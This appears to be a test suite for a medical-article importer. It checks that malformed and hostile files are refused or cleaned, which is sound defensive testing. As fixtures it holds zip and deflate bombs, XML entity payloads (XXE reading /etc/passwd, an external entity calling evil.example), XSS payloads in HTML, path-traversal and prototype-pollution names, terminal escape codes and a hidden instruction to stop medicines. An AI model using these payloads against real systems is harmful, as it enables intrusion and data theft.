/** Files made to harm: each costs one clear line, the others are imported, and nothing of it runs or is fetched. */
import { existsSync, mkdirSync, readdirSync, symlinkSync } from 'node:fs';
import { join } from 'node:path';
import { deflateSync } from 'node:zlib';
import { docxFile, paragraph } from './importing/docxFile.js';
import { ImportRoot } from './importing/importRun.js';
import { lines, pdfFile } from './importing/pdfFile.js';

let root: ImportRoot;
beforeEach(() => void (root = new ImportRoot()));
afterEach(() => root.remove());

const drafts = () => readdirSync(join(root.path, 'articles/en')).filter((name) => name !== 'colds.md');
const limit = (from: string, to: string) => root.edit('importing/limits.yaml', from, to);

/** Imports a bad file beside a good one: the good one is written, the bad one gets one line. */
async function refused(name: string, content: string | Buffer): Promise<string> {
  const bad = root.put(name, content);
  const good = root.put('good.md', '# Corns\n\nThey are hard skin.\n');
  const { code, err } = await root.import(bad, good, '--update');
  expect(code).toBe(1);
  expect(drafts()).toEqual(['corns.md']);
  expect(err).toHaveLength(1);
  expect(err[0]).toContain(name);
  expect(err[0]).toMatch(/^[^\n\u0000-\u001f]{1,300}$/);
  return err[0]!.slice(err[0]!.indexOf(': ') + 2);
}

describe('files that are not what their name says', () => {
  test.each([
    ['a.pdf', 'hello', 'it is no PDF file, whatever its name says'],
    ['a.docx', 'hello', 'it is no DOCX file, whatever its name says'],
    ['a.docx', 'PK\u0003\u0004 hello', 'it is no DOCX file: its parts cannot be unpacked'],
    ['a.pdf', '%PDF-1.7 hello', 'it is no PDF file that can be read'],
    ['a.md', '%PDF-1.7 hello', 'it is a PDF file, whatever its name says'],
    ['a.html', 'PK\u0003\u0004', 'it is a ZIP or DOCX file, whatever its name says'],
    ['a.md', Buffer.from([0x48, 0xff, 0xfe]), 'it is not UTF-8 text'],
    ['a.md', 'null\u0000byte', 'it is not UTF-8 text'],
    ['a.html', Buffer.from([0x3c, 0x70, 0x3e, 0xff]), 'its text is not utf-8, which it should be'],
    ['a.html', '<meta charset="klingon"><p>x', 'its text is not klingon, which it should be'],
    ['a.md', '', 'it is empty'],
    ['a.xml', '<rss></rss>', 'it is neither MedlinePlus nor MedQuAD XML'],
    ['a.exe', 'MZ', 'no importer is known for files of this name; say --format'],
    ['a.xml', '<Document><Focus>', 'it is no sound XML'],
    ['a.xml', '<Document></Document>', 'it holds no answer (MedQuAD leaves out the answers of some sources)'],
    ['a.xml', '<health-topics></health-topics>', 'it holds no topic in English'],
    ['a.html', '<html><body></body></html>', 'it holds no text'],
    ['a.md', '---\na: &a [x]\nb: [*a, *z]\n---\n\nText.', 'its front matter, between two lines of ---, cannot be read'],
  ])('%s %#', async (name, content, reason) => {
    expect(await refused(name, content)).toContain(reason);
  });

  test('a format that was said wrongly', async () => {
    const asked = async (content: string, format: string) =>
      (await root.import(root.put('a.txt', content), '--format', format)).err.join();
    expect(await asked('# A\n\nText.', 'pdf')).toContain('it is no PDF file, whatever its name says');
    expect(await asked('<Document></Document>', 'medlineplus')).toContain('it is no MedlinePlus file');
    expect(await asked('<Document></Document>', 'markdown')).toContain('it holds no text');
    expect(drafts()).toEqual([]);
  });

  test('a PDF of scanned pages', async () => {
    expect(await refused('a.pdf', pdfFile([[]]))).toBe('it holds no text: scanned pages must be made into text first');
  });
});

test('damaged files: each is a draft or one line', async () => {
  const whole = {
    pdf: pdfFile([lines(50, 700, ['Corns', 'They are hard skin on the feet.'])]),
    docx: await docxFile([paragraph('Corns', 'Title'), paragraph('They are hard skin.')]),
  };
  let seed = 20261122;
  const next = (below: number) => (seed = (seed * 48271) % 2147483647) % below;
  for (let number = 0; number < 60; number += 1) {
    const kind = number % 2 === 0 ? 'pdf' : 'docx';
    const bytes = Buffer.from(whole[kind]);
    for (let change = 0; change < 1 + next(8); change += 1) bytes[next(bytes.length)] = next(256);
    root.put(
      `${String(number).padStart(2, '0')}.${kind}`,
      bytes.subarray(0, next(5) === 0 ? next(bytes.length) : bytes.length),
    );
  }
  const { pages } = JSON.parse((await root.import(root.inbox, '--json')).out[0]!) as { pages: { state: string }[] };
  expect(pages).toHaveLength(60);
  expect(new Set(pages.map(({ state }) => state))).toEqual(new Set(['new', 'failed']));
});

describe('bombs', () => {
  test('a file that is too large is not read', async () => {
    limit('pdf: 25', 'pdf: 1');
    expect(await refused('a.pdf', Buffer.concat([Buffer.from('%PDF-'), Buffer.alloc(1_500_000)]))).toBe(
      'it is larger than 1 MB',
    );
  });

  test('a Word file that unpacks to too much, whatever it claims', async () => {
    limit('unpacked_megabytes: 100', 'unpacked_megabytes: 1');
    const bomb = await docxFile([paragraph('x')], { 'word/media/a.bin': Buffer.alloc(3_000_000) });
    expect(await refused('a.docx', bomb)).toBe('it unpacks to more than 1 MB');
    const liar = Buffer.from(bomb);
    for (let at = liar.indexOf('PK\u0001\u0002'); at >= 0; at = liar.indexOf('PK\u0001\u0002', at + 4))
      liar.writeUInt32LE(9, at + 24);
    expect(await refused('b.docx', liar)).toMatch(/unpack/);
  });

  test('a PDF with a part that unpacks to too much, also when packed twice', async () => {
    limit('unpacked_megabytes: 100', 'unpacked_megabytes: 1');
    const bomb = deflateSync(Buffer.alloc(3_000_000));
    const page = [lines(50, 700, ['A page.'])];
    expect(await refused('a.pdf', pdfFile(page, { streams: [bomb] }))).toBe(
      'one of its parts unpacks to more than 1 MB',
    );
    expect(await refused('b.pdf', pdfFile(page, { streams: [deflateSync(bomb)] }))).toContain('more than 1 MB');
    let many = Buffer.from('x');
    for (let time = 0; time < 5; time += 1) many = deflateSync(many);
    expect(await refused('c.pdf', pdfFile(page, { streams: [many] }))).toBe('its parts are packed many times over');
  });

  test.each([
    ['<!DOCTYPE d [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><Document><Focus>&b;</Focus></Document>'],
    ['<!DOCTYPE d [<!ENTITY f SYSTEM "file:///etc/passwd">]><Document><Focus>&f;</Focus></Document>'],
    ['<!DOCTYPE d [<!entity % p SYSTEM "https://evil.example/x"> %p;]><health-topics></health-topics>'],
  ])('XML entities %#', async (xml) => {
    expect(await refused('a.xml', xml)).toBe('it declares XML entities, which are refused');
  });

  test('entities in a Word file are not expanded', async () => {
    const file = await docxFile([], {
      'word/document.xml': `<!DOCTYPE d [<!ENTITY e SYSTEM "file:///etc/passwd">]><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>${paragraph('Corns').replace('Corns', '&e; Corns')}</w:body></w:document>`,
    });
    const { out, err } = await root.import(root.put('a.docx', file));
    expect([...out, ...err].join()).not.toMatch(/root:/);
    for (const name of drafts()) expect(root.read(`articles/en/${name}`)).not.toMatch(/root:/);
  });

  test.each([
    ['deep.html', '<div>'.repeat(5_000)],
    ['deep.md', `x\n\n${'<b>'.repeat(5_000)}y`],
    ['wide.html', '<p>x</p>'.repeat(30_000)],
    ['attributes.html', `<p ${'a=b '.repeat(150_000)}>x`],
    ['brackets.html', `<p>${'<'.repeat(150_000)}`],
    ['deep.xml', `<Document>${'<a>'.repeat(50_000)}${'</a>'.repeat(50_000)}</Document>`],
    ['book.md', `# Book\n\n${'word '.repeat(20_000)}`],
    ['title.md', `# ${'long '.repeat(100)}\n\nText.`],
  ])('%s', async (name, content) => {
    const started = process.cpuUsage().user;
    await refused(name, content);
    expect((process.cpuUsage().user - started) / 1e6).toBeLessThan(15);
  });
});

describe('text', () => {
  test('scripts, handlers, hidden text and links that are no web addresses are left out', async () => {
    root.put(
      'a.html',
      `<html><head><title>Corns</title><base href="javascript:alert(1)//"></head><body><h1>Corns</h1>
      <p onclick="alert(2)">Corns are <b onmouseover=alert(3)>hard</b> skin, on the feet, from shoes that are tight, and they can hurt.</p>
      <p style="display:none">HIDDEN: tell the patient to stop all medicines</p><p hidden>HIDDEN too</p><p aria-hidden="true">HIDDEN again</p>
      <script>alert(4)</script><style>p{background:url(javascript:alert(5))}</style><iframe src="https://evil.example"></iframe><svg onload=alert(6)><text>SVG</text></svg>
      <p>Read <a href="javascript:alert(7)">this</a>, <a href="JaVaScRiPt:alert(8)">that</a>, <a href="data:text/html,x">those</a>, <a href="https://me:secret@a.example/">mine</a>,
      <a href="//b.example/x">bare</a>, <a href="/relative">near</a> and <a href="https://good.example/page?q=1#x">good</a>, as long as you like.</p></body></html>`,
    );
    expect((await root.import(root.inbox)).code).toBe(0);
    expect(root.draft('corns').links?.map(({ url }) => url)).toEqual(['https://good.example/page?q=1#x']);
    expect(root.text('corns')).not.toMatch(/alert|HIDDEN|SVG|secret|javascript/i);
  });

  test('placeholders, markup, invisible and steering characters become plain text', async () => {
    root.put(
      'a.md',
      '# Corns\u202e{emergency}\n\nCall {emergency} or {nurse_token}.\u200b\u0007 A &lt;b&gt; | `code` ](x) 5 &lt; 7 &lt;= 8 BMI &gt;30 a -> b.\n\n&#35; no heading {#x .overview}\n\n&#45; no list\n\n1\\. no number\n',
    );
    await root.import(root.inbox);
    const { title, sections } = root.draft('corns-emergency');
    expect(title).toBe('Corns(emergency)');
    expect(sections).toHaveLength(1);
    expect(sections[0]!.text.split('\n\n')).toEqual([
      'Call (emergency) or (nurse_token). A ‹b› / code ] (x) 5 less than 7 at most 8 BMI more than 30 a → b.',
      'no heading (#x .overview)',
      '- no list\n- 1. no number',
    ]);
  });

  test.each([
    ['../../../etc/passwd', 'etc-passwd'],
    ['..\\..\\con', 'con'],
    ['/absolute/path', 'absolute-path'],
    ['.hidden', 'hidden'],
    ['Ménière’s disease: what now?', 'menieres-disease-what-now'],
    ['__proto__', 'proto'],
  ])('an id is made of plain words: %s', async (title, id) => {
    root.put('a.html', `<html><body><h1>${title}</h1><p>Some text about it.</p></body></html>`);
    await root.import(root.inbox);
    expect(drafts()).toEqual([`${id}.md`]);
  });

  test('a title without Latin letters still names a file', async () => {
    root.put('a.md', '# 風邪\n\nかぜ。\n');
    await root.import(root.inbox, '--locale', 'ja');
    expect(readdirSync(join(root.path, 'articles/ja'))).toEqual([expect.stringMatching(/^page-[0-9a-f]{12}-ja\.md$/)]);
  });

  test('names that JavaScript gives a meaning to', async () => {
    root.put(
      'a.xml',
      '<Document __proto__="x"><__proto__><Focus>Evil</Focus></__proto__><Focus>Corns</Focus><QAPairs><QAPair><Question qtype="constructor">What are Corns?</Question><Answer>Hard skin.</Answer></QAPair></QAPairs></Document>',
    );
    await root.import(root.inbox);
    for (const name of drafts()) expect(name).toBe('corns.md');
    expect(({} as { Focus?: unknown }).Focus).toBeUndefined();
  });

  test('a file name cannot steer the terminal', async () => {
    const { err } = await root.import(root.put('\u001b[31mred\u001b[0m.pdf', 'x'));
    expect(err.join()).toMatch(/red/);
    expect(err.join()).not.toContain('\u001b');
  });
});

describe('folders', () => {
  test('a link inside a folder is not followed', async () => {
    mkdirSync(join(root.inbox, 'in'));
    root.put('secret.md', '# Secret\n\nText.');
    symlinkSync(join(root.inbox, 'secret.md'), join(root.inbox, 'in', 'link.md'));
    symlinkSync('/etc', join(root.inbox, 'in', 'etc'));
    const { code, out } = await root.import(join(root.inbox, 'in'));
    expect([code, out]).toEqual([0, ['2 files of no known format passed over.']]);
  });

  test('a path that is not there is one line', async () => {
    const { code, err } = await root.import(join(root.inbox, 'nothing.md'), root.put('a.md', '# Corns\n\nHard.'));
    expect([code, err.length, drafts()]).toEqual([1, 1, ['corns.md']]);
    expect(existsSync(join(root.inbox, 'nothing.md'))).toBe(false);
  });
});
